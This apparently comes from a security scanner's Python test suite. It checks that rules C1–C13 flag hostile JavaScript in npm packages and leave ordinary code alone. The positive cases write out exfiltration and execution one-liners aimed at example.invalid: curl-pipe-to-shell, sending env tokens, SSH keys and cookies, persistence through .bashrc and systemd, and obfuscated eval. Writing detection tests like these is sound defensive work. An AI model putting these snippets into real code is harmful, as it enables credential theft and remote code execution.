"""The rules about code, held against JavaScript."""

import pytest

from tests.vetting.domain.signals.looking import side
from vetting.domain.signals.code import RULES
from vetting.domain.signals.interface import FileUnderScan

CP = "require('child_process')"
GET = "require('https').get"
WORKER = "new (require('worker_threads').Worker)"
HOME = "require('os').homedir()"


def rules_at(source: str) -> set[tuple[str, str]]:
    """Name the rules that find something in a new file, and how bad it is."""
    file = FileUnderScan(None, side("lib/index.js", source.encode()))
    return {(one.rule, one.severity.value) for rule in RULES for one in rule.look(file)}


@pytest.mark.parametrize(
    ("rule", "severity", "sources"),
    [
        ("C1", "high", [
            "new Function(Buffer.from(x, 'base64').toString())()",
            "global['ev' + 'al'](atob(x))",
            "const d = atob; (0, eval)(d(x))",
            "function d(x) { return unescape(x) } eval(d(y))",
        ]),
        ("C1", "medium", [
            "eval(require('./package.json').description)",
            "const {description: d} = require('./package.json'); Function('x', 'y;' + d)()",
            "eval(process.env.npm_package_description)",
            "const e = process.env; require('vm').runInThisContext(`${e.X}`)",
        ]),
        ("C2", "high", [
            "eval(atob('YWxlcnQoMSk='))",
            "eval(String.fromCharCode(97, 98))",
            "eval('b()a'.split('').reverse().join(''))",
            "const t = ['YWxl', 'cnQoMSk=']; const g = i => t[i - 1]; eval(atob(g(1) + g(2)))",
            "const m = new module.constructor(); const d = r(x)[y](k); m[n(7)](d.update(b) + d.final(), '')",
        ]),
        ("C3", "high", [
            "fetch('https://example.invalid').then(r => r.text()).then(eval)",
            "fetch('https://example.invalid').then(r => r.text()).then(t => eval(t))",
            "const f = window['fet' + 'ch']; f('https://example.invalid').then(r => r.text()).then(t => Function(t)())",
        ]),
        ("C3", "high", [
            "const s = new WebSocket('wss://example.invalid'); s.onmessage = e => Function(e.data)()",
            "fetch(x).then(r => r.text()).then(t => { require('fs').writeFileSync('/tmp/p', t); require('/tmp/p') })",
            f"fetch('https://example.invalid').then(r => r.text()).then(t => {WORKER}(t, {{eval: !0}}))",
            f"{WORKER}(`{CP}.exec('curl https://example.invalid | sh')`, {{eval: true}})",
        ]),
        ("C3", "high", [
            f"{CP}.exec(`curl https://example.invalid/${{process.env.USER}} | sh`)",
            f"const c = 'curl https://example.invalid/' + u() + ' | sh'; {CP}.spawn('bash', ['-c', c])",
            f"function run(c) {{ {CP}.exec(c) }} run('curl https://example.invalid | sh')",
            f"const f = (c, o) => new Promise(ok => {CP}.spawn('sh', ['-c', c], o)); f('curl https://a.invalid | sh')",
            f"const get = u => {CP}.execSync(`curl -s ${{u}} | bash`); get('https://example.invalid')",
            f"['curl https://example.invalid | sh'].forEach(c => {CP}.exec(c))",
            f"const run = s => eval(s); run(\"{CP.replace(chr(39), '`')}.exec('curl https://example.invalid | sh')\")",
        ]),
        ("C1", "high", ["const run = s => eval(s); run(atob(x))", "function f(a, c) { Function(c)() } f(1, atob(x))"]),
        ("C9", "high", [f"{CP}.exec(`npm publish --tag ${{tag}}`)"]),
        ("C3", "medium", [
            f"require('https').get('https://example.invalid/x', r => r.on('data', d => {CP}.exec(d.toString())))",
        ]),
        ("C4", "high", [
            "require('https').request({host: 'example.invalid'}).end(JSON.stringify(process.env))",
            "const {env: e} = process; fetch('https://example.invalid', {method: 'POST', body: JSON.stringify(e)})",
            f"fetch('https://example.invalid', {{body: require('fs').readFileSync({HOME} + '/.ssh/id_rsa')}})",
            f"const k = '.ss' + 'h/id_' + 'rsa'; fetch(x, {{body: require('f' + 's').readFileSync({HOME} + '/' + k)}})",
        ]),
        ("C4", "high", [
            f"const t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; {GET}('https://example.invalid/?t=' + t)",
            f"{GET}({{host: 'example.invalid', path: '/' + process.env.NPM_TOKEN}})",
            "new Image().src = 'https://example.invalid/?' + document.cookie",
            "const i = document.createElement('img'); i.src = `https://example.invalid/${btoa(document.cookie)}`",
            "window.location = 'https://example.invalid/?' + encodeURIComponent(document.cookie)",
            "fetch(x, {method: 'POST', body: document.cookie})",
            "const x = new XMLHttpRequest(); x.open('GET', 'https://example.invalid/' + document.cookie)",
        ]),
        ("C4", "high", [
            f"fetch(x, {{body: require('fs').readFileSync(`${{{HOME}}}/.ssh/id_rsa`)}})",
            "fetch(x, {body: require('fs').readFileSync(`${process.env.HOME}${s}.npmrc`)})",
            r"const p = `${env.APPDATA}\\Google\\Chrome\\User Data`; fetch(x, {body: require('fs').readFileSync(p)})",
        ]),
        ("C4", "high", [
            "navigator.sendBeacon('https://example.invalid/', document.cookie)",
            "const w = new WebSocket('wss://example.invalid/'); w.onopen = () => w.send(document['coo' + 'kie'])",
            "window.open('https://example.invalid/?' + document.cookie)",
            "document.write('<img src=\"https://example.invalid/?' + document.cookie + '\">')",
            "document.body.innerHTML += `<img src='https://example.invalid/${document.cookie}'>`",
            "new Image().setAttribute('src', 'https://example.invalid/?' + document.cookie)",
            "const i = new Image(); i.src = 'https://example.invalid/?' + btoa(JSON.stringify(localStorage))",
            "const {sessionStorage: s} = window; navigator.sendBeacon('https://example.invalid', String({...s}))",
        ]),
        ("C4", "high", ["fetch('https://example.invalid', {method: 'POST', body: JSON.stringify({...process.env})})"]),
        ("C4", "medium", ["fetch('/x', {method: 'POST', body: JSON.stringify(localStorage)})"]),
        ("C4", "medium", [f"{GET}('https://example.invalid/?access_token=' + process.env.GITHUB_TOKEN)"]),
        ("C5", "medium", [
            "require(Buffer.from('6673', 'hex').toString())",
            "global['ev' + 'al'](x)",
            r"require('\x63hild_process')",
            r"const ru\u006e = x => x; run(1)",
        ]),
        ("C6", "high", [
            f"{CP}.exec('powershell -EncodedCommand aaaa')",
            f"{CP}['ex' + 'ec']('power' + 'shell -Enc' + 'odedCommand aaaa')",
        ]),
        ("C6", "medium", [f"{CP}.spawn('sh', ['-c', 'x'], {{detached: true, stdio: 'ignore'}}).unref()"]),
        ("C7", "medium", ["process.dlopen(module, 'x.node')", "require('ffi-napi').Library('libc', {})"]),
        ("C8", "high", [
            "require('fs').writeFileSync('/etc/systemd/system/x.service', 'y')",
            "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x')",
            f"const p = `${{{HOME}}}/.config/fish/config.fish`; require('fs').appendFileSync(p, 'x')",
            "const {appendFileSync: a} = require('node:fs'); a(`${process.env.HOME}/.bash${'rc'}`, 'x')",
        ]),
        ("C9", "high", [f"{CP}.execSync('npm publish')", f"{CP}.execSync(['npm', 'publish'].join(' '))"]),
        ("C9", "high", [
            "require('fs').writeFileSync('.github/workflows/x.yml', 'y')",
            "require('fs').writeFileSync(`${root()}/.github/workflows/x.yml`, 'y')",
        ]),
        ("C10", "medium", [
            "const u = 'https://discord.com/api/webhooks/1/x'",
            "const u = 'https://disc' + 'ord.com/api/web' + 'hooks/1/x'",
            "const u = atob('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94')",
        ]),
        ("C11", "medium", [
            f"if (process.env.CI) process.exit(); {CP}.exec('x')",
            f"if (new Date() > new Date('2025')) {CP}.exec('x')",
            f"const h = require('os').hostname(); if (h === 'x') {CP}.exec('x')",
            "if (JSON.parse(await fetch(u))['country_name'] === 'x') require('fs').writeFileSync('x', 'y')",
        ]),
        ("C12", "medium", ["window.fetch = function () {}", "XMLHttpRequest.prototype['op' + 'en'] = function () {}"]),
        ("C12", "medium", [r"const r = /^0x[a-f0-9]{40}$/; window.ethereum.request({})"]),
        ("C12", "high", [r"const r = /\b0x[a-fA-F0-9]{40}\b/; window.fetch = function () {}"]),
        ("C13", "medium", [
            "require('fs').writeFileSync('.vscode/tasks.json', 'x')",
            f"require('fs').writeFileSync(require('path').join({HOME}, '.cla' + 'ude', 'settings.json'), 'x')",
        ]),
    ],
)  # fmt: skip
def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sources: list[str]) -> None:
    """Plain, split, encoded, renamed and looked up."""
    assert [source for source in sources if (rule, severity) not in rules_at(source)] == []


@pytest.mark.parametrize(
    "source",
    [
        "console.log('hello'); module.exports = { a: 1 }",
        "const a = JSON.parse(atob(x))",
        "fetch('/api/x').then(r => r.json()).then(show)",
        f"{CP}.execFile('git', ['status'])",
        "if (process.env.NODE_ENV === 'production') { x() }",
        "module.exports = require('./lib/' + name)",
        "require('fs').readFileSync('package.json')",
        "const root = Function('return this')()",
        "const f = window.fetch || require('node-fetch')",
        "const self = this; self.fetch = function () {}",
        "function exec(x) { return x } exec(atob(y))",
        "handlers[name](event)",
        "// eval(atob('YWxlcnQoMSk='))",
        "const help = 'run eval(atob(x)) or npm publish'",
        f"{GET}({{host: x, headers: {{authorization: process.env.NPM_TOKEN}}}})",
        f"const o = {{}}; let p = {{a: process.env.NPM_TOKEN}}; p = f(p); {GET}(p)",
        f"{GET}('https://' + process.env.HOST + '/x').on('error', y)",
        "fetch('/x', {headers: {cookie: document.cookie}}); a.src = b; document.cookie = c",
        "const c = n => document.cookie.split(n); fetch('/x?t=' + c('t'), {body: c('u')}); new Image().src = c('t')",
        "const p = require('./package.json'); function f() { return g(process.env.X) } eval(f()); log(p.version)",
        "fetch(x).then(r => r.text()).then(t => { require('fs').writeFileSync('a.js', t); require('b.js') })",
        f"{WORKER}('eval(atob(x))', {{eval: false}}); s.onmessage = e => f(e); s.x = () => 1",
        f"const run = require('util').promisify({CP}.exec); run('git status'); require('pify')({CP}.exec)('git')",
        "o.keys.constructor(atob(x)); x.constructor(atob(x)); a.map(k).constructor(atob(x))",
        "Reflect.get(o, 'run')('x'); Reflect.get(o); Object.getOwnPropertyDescriptor(o, k).value(atob(x))",
        "const h = require('http'); const serve = a => new Server(a); serve(h).get('/x'); f(h).request(atob(x))",
        "const h = require('http'), two = a => { if (b) return c; return a }; two(h).get(y); (a => [a])(h).get()",
        "load().then(m => m.exec).then(exec => exec('curl https://example.invalid | sh')); p.then(); p.then(x)",
        "const cp = require('child_process'); p.then(() => q).then(cp => cp.exec('curl https://example.invalid | sh'))",
        "require('fs').writeFileSync(`./dist/${name}.min.js`, x); fetch(`/api/${v}/list?x=${w}`)",
        "document.write(document.cookie); e.innerHTML = document.cookie; e.setAttribute('src', localStorage)",
        "document.write('<a href=\"https://example.invalid/\">' + document.cookie)",
        "fetch('/x', {body: localStorage.get('a')}); fetch('/z', {headers: sessionStorage})",
        "localStorage.setItem('a', JSON.stringify(sessionStorage)); navigator.sendBeacon('/x', localStorage.length)",
        f"function run(c) {{ return {CP}.execSync(c) }} run('git status'); run(`git log ${{x}}`); run(3); run(y)",
        f"{CP}.exec(`git commit -m ${{m}}`); {CP}.exec('tsc -p ' + x); {CP}.exec(`${{a}} --version`); {CP}.exec(x + y)",
        f"function run(c) {{ {CP}.exec(d) }} run('curl https://example.invalid | sh'); eval`x`; (c => {CP}.exec(c))()",
        f"[x].forEach(c => {CP}.exec(c)); l().map(c => {CP}.exec(c)); g(c => {CP}.exec(c)); f(() => eval())",
        "function f(a, c) { const d = 1; Function(d, c) } f(atob(x), y); function g(a) { return eval(b(a)) }",
        r"const gr\u00fcn = '\u0065val'; grün(/^[\u0041-\u005a]/)",
    ],
)
def test_what_everyone_writes_is_not_found(source: str) -> None:
    """The same functions in their ordinary places, names of one's own, comments and texts."""
    assert rules_at(source) == set()
